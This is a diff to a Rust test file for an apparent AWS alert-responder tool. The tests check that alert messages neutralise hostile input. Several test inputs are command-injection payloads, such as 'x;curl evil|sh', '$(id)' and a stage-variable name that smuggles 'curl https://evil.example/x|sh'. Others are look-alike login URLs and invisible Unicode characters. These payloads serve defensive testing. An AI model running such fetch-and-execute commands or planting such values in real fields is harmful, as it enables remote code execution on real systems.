@@ -2,7 +2,10 @@
 //! with it. The tests are named after the attacks.
 
 use vpclink_responder::alerts::terminal;
+use vpclink_responder::aws::recorded::RecordedAccount;
 use vpclink_responder::{alerts, ids};
+
+use std::fs;
 
 use serde_json::Value;
 use vpclink_responder::alerts::Message;
@@ -77,7 +80,7 @@ fn slack_mention_of_a_channel_or_person() {
 }
 
 #[test]
-fn slack_link_in_somebodys_text() {
+fn slack_link_in_a_clients_text() {
     let markup = markup("<https://evil.example|log lines> https://evil.example");
     assert!(!markup.contains("<https://evil.example"), "{markup}");
     // Outside of code no address stands as one, which Slack would make a link of.
@@ -137,15 +140,112 @@ fn sns_attribute_takes_no_control_character_and_is_never_empty() {
     }
 }
 
+/// Every command of an alert.
+fn commands(alert: &Alert) -> Vec<String> {
+    let machine: Value = serde_json::from_str(&alerts::message(alert).bodies["sqs"]).unwrap();
+    let steps = machine["next_steps"].as_array().unwrap();
+    let both = steps.iter().flat_map(|step| [&step["command"], &step["verify"]]);
+    both.filter_map(Value::as_str).map(str::to_owned).collect()
+}
+
 #[test]
 fn shell_metacharacters_in_a_command_to_copy() {
     for text in ["x;curl evil|sh", "$(id)", "`id`", "'; id; '", "x&&id", "x>y"] {
-        let machine: Value = serde_json::from_str(&message(text).bodies["sqs"]).unwrap();
-        for step in machine["next_steps"].as_array().unwrap() {
-            for command in [&step["command"], &step["verify"]].into_iter().filter_map(Value::as_str) {
-                assert!(!command.contains(text), "{command}");
+        for command in commands(&planted(text)) {
+            assert!(!command.contains(text), "{command}");
+        }
+    }
+}
+
+/// What the integration of an API may name: a stage variable, a link id, an endpoint.
+#[test]
+fn stage_variable_that_is_a_command() {
+    let name = "link;curl https://evil.example/x|sh #";
+    let text = fs::read_to_string("events/stage-variable-dangling.account.json").unwrap();
+    let mut account: Value = serde_json::from_str(&text).unwrap();
+    for answer in account["answers"].as_array_mut().unwrap() {
+        let id = answer.get_mut("answer").and_then(|answer| answer.get_mut("connection_id"));
+        if let Some(id) = id.filter(|id| id.is_string()) {
+            *id = format!("${{stageVariables.{name}}}").into();
+        }
+    }
+    let account = RecordedAccount::parse(&account.to_string()).unwrap();
+    let alerts = explained(fs::read("events/stage-variable-dangling.json").unwrap(), &account).alerts;
+    assert_eq!(alerts.len(), 1);
+    for command in commands(&alerts[0]) {
+        let words = shlex::split(&command).unwrap();
+        assert!(
+            !words.iter().any(|word| word.starts_with("evil") || word == "sh" || word == "#"),
+            "{command}"
+        );
+        // Either the name is not there, or it is within one word, and nothing of it stands outside of quotes.
+        let bare: String = command.split('\'').step_by(2).collect();
+        assert!(!bare.contains([';', '|', '#', '$']), "{command}");
+        if command.contains("curl") {
+            assert!(words.iter().any(|word| word.contains(name)), "{command}");
+        }
+    }
+    for body in alerts::message(&alerts[0]).bodies.values() {
+        assert!(!body.contains("\"curl") && !body.contains("://evil.example/x|sh #,"), "{body}");
+    }
+}
+
+/// The examples' commands: exactly the words that are meant, whatever a shell makes of the rest.
+#[test]
+fn every_command_is_words() {
+    let mut seen = 0;
+    for event in crate::golden::events() {
+        let alerts = explained(fs::read(&event).unwrap(), &crate::golden::account_of(&event)).alerts;
+        for command in alerts.iter().flat_map(commands) {
+            let words = shlex::split(&command).unwrap();
+            assert!(["aws", "curl", "openssl", "dig"].contains(&words[0].as_str()), "{command}");
+            assert_eq!(
+                vpclink_responder::alerts::escape::command(&command).as_deref(),
+                Some(command.as_str())
+            );
+            seen += 1;
+        }
+    }
+    assert!(seen >= 10, "{seen}");
+}
+
+#[test]
+fn address_of_a_client_as_path_or_id() {
+    for path in ["https://evil.example/aws/login", "www.evil.example/login", "evil.example/login"] {
+        let mut alert = planted(path);
+        alert.news.example.request_id = Some(ids::RequestId::new(path));
+        let message = alerts::message(&alert);
+        let text = |name: &str| message.bodies[name].clone();
+        let chat: Value = serde_json::from_str(&text("https")).unwrap();
+        let shown =
+            [&chat["content"]["title"], &chat["content"]["description"], &chat["metadata"]["summary"]];
+        let mut bodies =
+            vec![message.subject.clone(), text("email"), text("sms"), text("default"), block(path)];
+        bodies.extend(shown.into_iter().map(|text| text.as_str().unwrap().to_owned()));
+        bodies.push(alerts::html_page(&[alert]));
+        // Our own link to the log holds the id, encoded.
+        let machine: Value = serde_json::from_str(&text("sqs")).unwrap();
+        let logs = machine["links"]["logs"].as_str().unwrap();
+        for body in bodies.iter().map(|body| body.replace(logs, "")) {
+            for live in ["https://evil.example", "://evil.example", "www.evil.example", " /evil.example"] {
+                assert!(!body.contains(live), "{live}: {body}");
             }
         }
+        // Those two have no evidence, which keeps the dots of host names.
+        assert!(!message.subject.contains("evil.example") || path.contains("://"), "{}", message.subject);
+    }
+}
+
+#[test]
+fn invisible_and_refused_characters() {
+    let hidden: String = "\u{fffe}\u{ffff}\u{206a}\u{206f}\u{3164}\u{115f}\u{34f}\u{202e}\u{2066}".to_owned();
+    let alert = planted(&format!("a{hidden}b"));
+    let message = alerts::message(&alert);
+    let mut bodies: Vec<String> = message.bodies.into_values().collect();
+    bodies.extend(message.attributes.into_values());
+    bodies.extend([message.subject, block(&hidden), alerts::html_page(&[alert])]);
+    for body in bodies {
+        assert!(!body.chars().any(|c| hidden.contains(c)), "{body:?}");
     }
 }
 
